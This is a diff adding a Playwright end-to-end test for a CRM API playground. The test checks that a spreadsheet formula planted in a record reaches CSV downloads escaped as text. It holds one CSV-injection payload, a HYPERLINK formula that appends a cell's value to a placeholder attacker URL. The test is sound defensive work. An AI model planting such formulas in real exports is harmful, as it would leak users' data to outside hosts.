@@ -2,15 +2,23 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
+import time
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, Literal
 
 import pytest
 from playwright.sync_api import Page, ViewportSize, expect
+from sqlmodel import Session
 
+from playground.onoffice.actions import ActionRequest, Verb
+from playground.onoffice.envelope import build_envelope, encode_body
 from playground.sandbox import DEMO_SECRET, DEMO_TOKEN
+from playground.store import markers
+from playground.store.db import make_engine
 from tests.e2e.e2e_support import create_sandbox_profile, follow
 
 if TYPE_CHECKING:
@@ -236,3 +244,47 @@ def test_reading_an_answer_sort_copy_csv_and_search(logged_in: Page, ui: Ui) -> 
     page.get_by_test_id("json-expand").first.click()
     expect(tree.locator("details:not([open])")).to_have_count(0)
     assert tree.locator("details").count() > 10
+
+
+def _csv_rows(page: Page, test_id: str) -> list[list[str]]:
+    """The cells of the CSV file a download button of the answer saves."""
+    with page.expect_download() as download:
+        page.get_by_test_id(test_id).first.click()
+    text = Path(download.value.path()).read_text(encoding="utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_a_formula_in_an_answer_reaches_a_csv_file_as_text(
+    logged_in: Page, ui: Ui, database_url: str
+) -> None:
+    # An answer holds whatever anyone wrote into the CRM (a website form's enquiry, say; in
+    # the sandbox anyone who knows its public demo credentials). A spreadsheet opening the
+    # CSV ran a cell starting with = as a formula: here one that sends the row elsewhere.
+    page = logged_in
+    formula = '=HYPERLINK("https://evil.example/?"&B2,"Details")'
+    plant = ActionRequest(
+        Verb.MODIFY, "estate", resourceid="1", parameters={"data": {"objekttitel": formula}}
+    )
+    envelope = build_envelope(
+        [plant], token=DEMO_TOKEN, secret=DEMO_SECRET, timestamp=int(time.time())
+    )
+    sandbox = ui.server.url("/sandbox/api/stable/api.php")
+    try:
+        answer = page.request.post(sandbox, data=encode_body(envelope))
+        assert answer.json()["status"]["errorcode"] == 0
+        two = {"Id": [{"op": "in", "val": [1, 2]}]}
+        read = {"data": ["Id", "objekttitel"], "filter": two, "sortby": {"Id": "ASC"}}
+        page.locator("#parameters-0").fill(json.dumps(read | {"listlimit": 1}))
+        ui.send(page)
+        assert _csv_rows(page, "download-csv")[1] == ["1", "'" + formula]
+        page.get_by_test_id("all-pages").first.click()
+        expect(page.get_by_test_id("all-pages-status").first).to_contain_text("records fetched")
+        assert ["1", "1", "'" + formula] in _csv_rows(page, "all-pages-csv")
+    finally:  # the sandbox's estates as the other tests on this server expect them
+        engine = make_engine(database_url)
+        with Session(engine) as db:
+            markers.raise_counter(db, name=markers.SANDBOX_RESET)
+        engine.dispose()
+        # It starts over at its next request: one now, before the next test's clean-up
+        # takes the counter back with every other row.
+        page.request.post(sandbox, data=b"{}")
